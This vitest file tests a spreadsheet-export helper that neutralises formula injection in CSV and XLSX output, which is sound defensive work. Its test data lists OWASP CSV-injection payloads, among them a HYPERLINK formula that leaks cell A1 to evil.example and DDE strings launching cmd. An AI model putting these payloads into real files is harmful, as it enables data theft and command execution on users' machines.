import ExcelJS from 'exceljs';
import { describe, expect, test } from 'vitest';
import { csvCell as chartCsvCell, toCsv as chartToCsv } from '../../web/src/ui/chart-csv.ts';
import { csvCell, inertText, looksLikeFormula, toCsv, xlsxCellValue } from './spreadsheet-cell.ts';

// The classic CSV-injection payloads (OWASP): each would run, link or call out when a spreadsheet opens the file.
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u00a0=1+1',
  '＝HYPERLINK("http://evil.example")',
  '＋1+1',
  '＠SUM(A1)',
];

describe('spreadsheet cells: formula injection is neutralised in every export', () => {
  test.each(FORMULAS)('%j comes out as inert text with a leading apostrophe', (payload) => {
    expect(looksLikeFormula(payload)).toBe(true);
    expect(inertText(payload)).toBe(`'${payload}`);
    const cell = csvCell(payload);
    // Whether quoted or not, the cell's first character after an optional quote is the apostrophe.
    expect(cell.replace(/^"/, '')[0]).toBe("'");
  });

  test('a text with a semicolon is quoted: Russian and German Excel split cells on it, and the next cell would start with =', () => {
    expect(csvCell('ok;=HYPERLINK("http://evil.example")')).toBe('"ok;=HYPERLINK(""http://evil.example"")"');
  });

  test('ordinary text and numbers are left alone; a negative number stays a number', () => {
    expect(csvCell('Отделение - 2')).toBe('Отделение - 2');
    expect(csvCell('急诊科')).toBe('急诊科');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('-3')).toBe("'-3");
  });

  test('the chart tables’ “Export CSV” (web/src/ui/chart-csv.ts, every dashboard, scorecard and report chart) uses this helper', () => {
    expect(chartCsvCell).toBe(csvCell);
    expect(chartToCsv).toBe(toCsv);
    expect(
      chartToCsv(
        ['=name', 'n'],
        [
          ['@SUM(A1)', 1],
          ['+cmd|x', -1],
        ],
      ),
    ).toBe("'=name,n\r\n'@SUM(A1),1\r\n'+cmd|x,-1\r\n");
  });

  test('an XLSX written with these values holds strings, never formulas, and reads back as the inert text', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('export');
    for (const payload of FORMULAS) sheet.addRow([xlsxCellValue(payload), xlsxCellValue(7), xlsxCellValue(null)]);
    const bytes = await workbook.xlsx.writeBuffer();
    const back = new ExcelJS.Workbook();
    await back.xlsx.load(bytes as ArrayBuffer);
    const rows = back.worksheets[0]!;
    FORMULAS.forEach((payload, i) => {
      const cell = rows.getRow(i + 1).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeFalsy();
      // (XML reads a carriage return back as a line feed.)
      expect(cell.value).toBe(`'${payload}`.replace(/\r/g, '\n'));
      expect(rows.getRow(i + 1).getCell(2).value).toBe(7);
    });
    // The sheet XML carries no <f> (formula) element at all.
    const { unzipSync, strFromU8 } = await import('fflate');
    const files = unzipSync(new Uint8Array(bytes as ArrayBuffer));
    expect(strFromU8(files['xl/worksheets/sheet1.xml']!)).not.toMatch(/<f[ >]/);
  });
});
